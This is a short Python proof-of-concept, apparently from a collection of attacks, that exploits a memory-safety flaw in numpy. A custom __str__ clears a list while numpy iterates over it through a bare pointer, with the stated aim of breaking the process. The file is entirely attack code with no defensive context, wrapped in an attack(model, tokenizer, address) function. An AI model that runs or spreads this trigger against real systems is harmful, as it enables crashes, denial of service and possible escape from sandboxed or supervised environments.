"""Class: memory. Source: own find. Escape: the process breaks. numpy walks a list through a bare pointer, and
asks what is in it for its text, which clears the list."""

import numpy as np


class Said:
    def __str__(self):
        data.clear()
        return "a"


data = []


def attack(model, tokenizer, address):
    for way in (lambda: np.array(data, dtype=str), lambda: np.array(object=data, dtype=str)):
        data[:] = [Said()] + [float(i) for i in range(500_000)]
        try:
            way()
        except Exception:
            pass
